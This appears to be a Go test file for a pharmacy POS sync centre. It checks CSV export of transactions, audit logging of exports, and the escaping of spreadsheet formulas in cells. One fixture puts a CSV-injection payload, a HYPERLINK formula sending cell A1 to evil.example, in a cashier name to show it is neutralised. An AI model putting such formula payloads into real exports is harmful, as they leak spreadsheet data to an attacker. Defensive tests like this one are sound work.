package api_test

import (
	"net/http"
	"strings"
	"testing"
	"time"

	"posagent/sync/centre/api"
	"posagent/sync/centre/centretest"
)

// Any filtered list downloads as CSV: the filter's records, amounts in
// fen and yuan; the download is an export in the audit log; a cashier
// name a dishonest terminal made a formula stays text.
func TestTransactionsAsCSV(t *testing.T) {
	c := centretest.StartWithOptions(t, centretest.Options{Sample: true})
	c.Users()
	c.SeedTransactions()
	rec := centretest.AccountCharge(zhangSan, c.Now().Add(-time.Hour), metformin)
	rec.Cashier = `=HYPERLINK("http://evil.example/?"&A1,"ok")`
	c.Rogue("T9", "P009").Send(rec)

	rows := getCSV(t, c, "/api/transactions?flagged=1&pharmacy=P2&format=csv")
	if len(rows) != 2 || strings.Join(rows[0], ",") != strings.Join(api.TxnCSVHeader, ",") {
		t.Fatalf("rows %q, want the header and T2-1", rows)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	got := rows[1]
	if got[col["txn_id"]] != "T2-1" || got[col["cashier"]] != "c9" || got[col["account_fen"]] != "700" ||
		got[col["account_yuan"]] != "7.00" || got[col["reasons"]] != "PRICE_ABOVE_CAP" {
		t.Errorf("T2-1 row %q", got)
	}
	rogue := getCSV(t, c, "/api/transactions?terminal=T9&format=csv")
	if len(rogue) != 2 || !strings.HasPrefix(rogue[1][col["cashier"]], "'=HYPERLINK") {
		t.Errorf("the rogue's cashier cell %q, want it led by an apostrophe", rogue)
	}
	if evs := summary(auditEvents(t, c, "action=export")); len(evs) != 2 || !strings.Contains(evs[1], "transactions") {
		t.Errorf("exports in the audit log: %q, want both downloads", evs)
	}
	var e struct{ Code string }
	if resp := c.Request("GET", "/api/transactions?format=xml", centretest.Basic(centretest.SupervisorName, centretest.SupervisorPassword), nil, &e); resp.StatusCode != http.StatusBadRequest {
		t.Errorf("format=xml: status %d, want 400", resp.StatusCode)
	}
}

func TestCSVCellDisarmsFormulas(t *testing.T) {
	for in, want := range map[string]string{
		"=1+1": "'=1+1", "+86 123": "'+86 123", "-2": "'-2", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "\rx": "'\rx",
		"c9": "c9", "": "", "张三": "张三", "1=1": "1=1",
	} {
		if got := api.CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
